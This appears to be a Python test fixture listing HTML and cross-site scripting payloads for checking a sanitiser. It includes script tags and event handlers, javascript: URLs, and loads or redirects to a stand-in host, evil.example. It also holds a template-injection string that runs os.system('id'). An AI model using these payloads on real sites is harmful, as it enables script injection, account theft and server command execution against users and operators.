"""What strangers and models may write to get an element, an attribute or a script onto a page."""

from __future__ import annotations

PAYLOADS = [
    # a script, alone and after the end of what may hold the text
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", '"><script>alert(1)</script>',
    "'><script>alert(1)</script>", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</p></blockquote><script>alert(1)</script>", "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->", "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    # an event, of an element of its own or of the one that holds the text
    "<img src=x onerror=alert(1)>", '"><img src=x onerror="alert(1)">', '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='", "` onclick=`alert(1)`", "<svg/onload=alert(1)>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    # elements that load, lead away or hold others
    "<svg><script>alert&#40;1&#41;</script></svg>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">', "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
    "<a href='javascript:alert(1)'>click</a>", "javascript:alert(1)",
    "<form action=//evil.example><input type=submit>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>",
    # what is unescaped or filled in once too often, and letters that turn or break a line
    "&lt;script&gt;alert(1)&lt;/script&gt;", "{{ 7 * 7 }}{% for x in () %}{% endfor %}${7*7}",
    "{{ cycler.__init__.__globals__.os.system('id') }}{% raw %}", "<script>\u202ealert(1)\u2028</script>",
]  # fmt: skip
